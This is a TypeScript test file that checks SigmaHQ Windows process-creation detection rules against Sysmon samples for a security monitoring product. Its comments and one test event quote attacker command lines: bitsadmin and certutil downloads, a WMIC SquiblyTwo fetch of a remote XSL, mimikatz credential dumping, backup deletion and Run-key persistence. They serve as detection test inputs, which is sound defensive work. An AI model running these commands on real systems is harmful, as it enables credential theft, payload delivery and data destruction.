/**
 * SigmaHQ's Windows process-creation rules, as published (test/fixtures/sigma/rules/windows/process_creation),
 * through the product's field mapping (rules/mappings/default.yaml) over public Sysmon samples decoded by
 * our Windows event decoder: Winlogbeat's own sysmon test data (benign process starts) and SigmaHQ's
 * regression events (real Sysmon captures of the behaviour each rule looks for), shipped as Winlogbeat does.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { decodeRecordLine } from '../../../collectors/index.js';
import { AssetIndex, inventoryFromYaml, isPlainObject, type ShouwangEvent } from '../../../core/index.js';
import { compileRuleSet, loadDefaultMapping, loadRuleDir } from '../../../analyzers/index.js';

const RULES = 'test/fixtures/sigma/rules/windows/process_creation';
const WINDOWS = 'test/fixtures/windows';
const REGRESSION = `${WINDOWS}/sigmahq-regression`;
const CONTEXT = { utcOffset: '+08:00', now: new Date('2026-11-30T00:00:00Z') };
const assets = new AssetIndex(inventoryFromYaml(`
departments: [{ id: rsj, name: 人社局 }]
systems:
  - { id: rsj-oa, name: OA, department: rsj, mlpsLevel: 3, zone: 政务外网, owner: { name: 王工 }, hosts: [vagrant, vagrant-2012-r2] }
`, 'inventory.yaml'));

let serial = 0;
function decode(doc: unknown): ShouwangEvent {
  const decoded = decodeRecordLine({ text: JSON.stringify(doc), position: String(serial++) }, 'win', assets, CONTEXT, 'windows-event');
  if (!decoded.ok) throw new Error(decoded.reason);
  return decoded.event;
}

const goldens = (name: string) => JSON.parse(readFileSync(`${WINDOWS}/${name}`, 'utf8')) as Record<string, unknown>[];

/**
 * An evtx record as SigmaHQ's regression JSON holds it ({Event: {System, EventData}}) → the document
 * Winlogbeat's wineventlog input ships for it (winlog.* from System, EventData as strings under
 * winlog.event_data; Elastic, "Winlogbeat fields: winlog"), which is what a WEF collector sends us.
 */
function asWinlogbeat(record: Record<string, unknown>): Record<string, unknown> {
  const event = record.Event as { System: Record<string, unknown>; EventData: Record<string, unknown> };
  const system = event.System;
  const attr = (value: unknown, name: string) => (isPlainObject(value) && isPlainObject(value['#attributes']) ? value['#attributes'][name] : undefined);
  const eventData = Object.fromEntries(Object.entries(event.EventData).map(([k, v]) => [k, v === null ? '' : String(v)]));
  return {
    '@timestamp': attr(system.TimeCreated, 'SystemTime'),
    winlog: {
      api: 'wineventlog', channel: system.Channel, event_id: system.EventID, record_id: system.EventRecordID, computer_name: system.Computer,
      provider_name: attr(system.Provider, 'Name'), provider_guid: `{${String(attr(system.Provider, 'Guid'))}}`,
      process: { pid: attr(system.Execution, 'ProcessID'), thread: { id: attr(system.Execution, 'ThreadID') } },
      user: { identifier: attr(system.Security, 'UserID') }, event_data: eventData,
    },
  };
}

function regressionSamples(): { name: string; event: ShouwangEvent }[] {
  return readdirSync(REGRESSION, { withFileTypes: true }).filter((d) => d.isDirectory()).flatMap((dir) =>
    readdirSync(join(REGRESSION, dir.name)).filter((f) => f.endsWith('.json')).map((file) => ({
      name: dir.name,
      event: decode(asWinlogbeat(JSON.parse(readFileSync(join(REGRESSION, dir.name, file), 'utf8')) as Record<string, unknown>)),
    })));
}

describe('SigmaHQ windows/process_creation rules as published, through the default mapping', async () => {
  const loaded = await loadRuleDir(RULES);
  const set = compileRuleSet(loaded.documents, { mapping: loadDefaultMapping() });
  // Rules are named by their file (what SOURCE.txt and the regression folders use).
  const fileOf = new Map(loaded.documents.map((doc) => [doc.id, basename(doc.position.file, '.yml')]));
  const fired = (event: ShouwangEvent) => set.match(event).map((r) => fileOf.get(r.id) ?? r.id).sort();

  it('compiles every fetched rule (SigmaHQ as published, 134 files) without a problem', () => {
    expect([...loaded.problems, ...set.problems]).toEqual([]);
    expect(set.rules).toHaveLength(134);
    expect(readdirSync(RULES).filter((f) => f.endsWith('.yml'))).toHaveLength(134);
  });

  it('fires the rule each SigmaHQ regression sample was captured for, plus only the rules whose behaviour it also shows', () => {
    const samples = regressionSamples();
    expect(Object.fromEntries(samples.map((s) => [s.name, fired(s.event)]))).toEqual({
      proc_creation_win_at_interactive_execution: ['proc_creation_win_at_interactive_execution'], // at 13:20 /interactive cmd
      proc_creation_win_attrib_hiding_files: ['proc_creation_win_attrib_hiding_files'], // attrib +h nbtscan.exe
      proc_creation_win_bcdedit_boot_conf_tamper: ['proc_creation_win_bcdedit_boot_conf_tamper'], // bootstatuspolicy ignoreallfailures
      proc_creation_win_bitsadmin_download: ['proc_creation_win_bitsadmin_download'], // bitsadmin /transfer n https://…
      // bitsadmin /transfer n https://12.34.45.67/calc.dll: a download (/transfer) from a bare IP.
      proc_creation_win_bitsadmin_download_direct_ip: ['proc_creation_win_bitsadmin_download', 'proc_creation_win_bitsadmin_download_direct_ip'],
      // bitsadmin /addfile AtomicBITS https://…: a download job (/addfile + http) that is also the persistence pattern.
      proc_creation_win_bitsadmin_potential_persistence: ['proc_creation_win_bitsadmin_download', 'proc_creation_win_bitsadmin_potential_persistence'],
      proc_creation_win_calc_uncommon_exec: ['proc_creation_win_calc_uncommon_exec'], // copies calc.exe to WindowsApps\\foxprow.exe
      proc_creation_win_certutil_decode: ['proc_creation_win_certutil_decode'], // certutil -decode
      proc_creation_win_certutil_download: ['proc_creation_win_certutil_download'], // certutil -urlcache -f https://…
      proc_creation_win_certutil_encode: ['proc_creation_win_certutil_encode'], // certutil -encode file.bat
      proc_creation_win_certutil_ntlm_coercion: ['proc_creation_win_certutil_ntlm_coercion'], // certutil -syncwithWU \\\\10.0.1.14\\my-share
      proc_creation_win_wbadmin_delete_all_backups: ['proc_creation_win_wbadmin_delete_all_backups', 'proc_creation_win_wbadmin_delete_systemstatebackup'], // wbadmin delete systemstatebackup -keepVersions:0 (both rules' behaviour)
      proc_creation_win_hktl_mimikatz_command_line: ['proc_creation_win_hktl_mimikatz_command_line'], // mimikatz.exe "sekurlsa::logonpasswords full"
      // powershell -NoProfile -EncodedCommand JABFAHIA… (UTF-16 base64 of $ErrorActionPreference …; Set-ExecutionPolicy Bypass …).
      proc_creation_win_powershell_base64_encoded_cmd: ['proc_creation_win_powershell_base64_encoded_cmd'],
      // powershell -exec bypass -e SQBuAHYA… : the policy change; its payload (Invoke-WmiMethod) starts with none of the rule's prefixes.
      proc_creation_win_powershell_set_policies_to_unsecure_level: ['proc_creation_win_powershell_set_policies_to_unsecure_level'],
      proc_creation_win_reg_add_run_key: ['proc_creation_win_reg_add_run_key'], // REG ADD "HKCU\\…\\CurrentVersion\\Run" /V softoz
    });
    // The decoder put the Sysmon fields where the mapping looks: the logsource condition and EventData names.
    const sample = samples.find((s) => s.name === 'proc_creation_win_certutil_download')!.event as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
    expect(sample.winlog).toMatchObject({ channel: 'Microsoft-Windows-Sysmon/Operational', event_id: 1 });
    expect(sample.process).toMatchObject({ executable: 'C:\\Windows\\System32\\certutil.exe', name: 'certutil.exe' });
    expect(sample.event).toMatchObject({ dataset: 'windows.sysmon', category: ['process'], type: ['start'] });
  });

  it('fires nothing on Winlogbeat\'s own Sysmon 1 goldens (notepad, Sysmon, unsecapp, WmiPrvSE starts): no behaviour, no alert', () => {
    const events = ['winlogbeat-sysmon-1.golden.json', 'winlogbeat-sysmon-9.01-process-create.golden.json'].flatMap((name) => goldens(name).map(decode));
    expect(events.map((e) => (e as Record<string, any>).process.name)).toEqual(['notepad.exe', 'Sysmon.exe', 'unsecapp.exe', 'WmiPrvSE.exe']); // eslint-disable-line @typescript-eslint/no-explicit-any
    expect(events.map(fired)).toEqual([[], [], [], []]);
  });

  it('runs Hashes rules on Winlogbeat sysmon-module events: the hashes it moved into process.hash are put back as Sysmon writes them', () => {
    // The module drops EventData Hashes for process.hash.* / process.pe.imphash (see the notepad golden): a renamed
    // WMIC found by its import hash (SigmaHQ's SquiblyTwo rule, Hashes|contains IMPHASH=…) must still fire.
    const [golden] = goldens('winlogbeat-sysmon-1.golden.json') as Record<string, any>[]; // eslint-disable-line @typescript-eslint/no-explicit-any
    expect((decode(golden) as Record<string, any>).winlog.event_data.Hashes).toBe('SHA1=b6d237154f2e528f0b503b58b025862d66b02b73'); // eslint-disable-line @typescript-eslint/no-explicit-any
    const renamed = {
      ...golden,
      process: {
        ...golden!.process, executable: 'C:\\Users\\Public\\svc.exe', name: 'svc.exe', command_line: 'svc.exe os get /format:"https://203.0.113.7/x.xsl"',
        hash: { ...golden!.process.hash, md5: '2e6d2bdd1e5e3c6a3b7f2c0e9d0b8a11' }, pe: { ...golden!.process.pe, original_file_name: 'svc.exe', imphash: '1b1a3f43bf37b5bfe60751f2ee2f326e' },
      },
    };
    expect(fired(decode(renamed))).toEqual(['proc_creation_win_wmic_squiblytwo_bypass']);
    expect((decode(renamed) as Record<string, any>).winlog.event_data.Hashes) // eslint-disable-line @typescript-eslint/no-explicit-any
      .toBe('SHA1=b6d237154f2e528f0b503b58b025862d66b02b73,MD5=2e6d2bdd1e5e3c6a3b7f2c0e9d0b8a11,IMPHASH=1b1a3f43bf37b5bfe60751f2ee2f326e');
  });

  it('keeps the logsource condition: the same command line in another channel or event id fires nothing', () => {
    const doc = asWinlogbeat(JSON.parse(readFileSync(`${REGRESSION}/proc_creation_win_certutil_download/19b08b1c-861d-4e75-a1ef-ea0c1baf202b.json`, 'utf8')) as Record<string, unknown>);
    const winlog = doc.winlog as Record<string, unknown>;
    expect(fired(decode({ ...doc, winlog: { ...winlog, event_id: 3 } }))).toEqual([]);
    expect(fired(decode({ ...doc, winlog: { ...winlog, channel: 'Application' } }))).toEqual([]);
  });
});
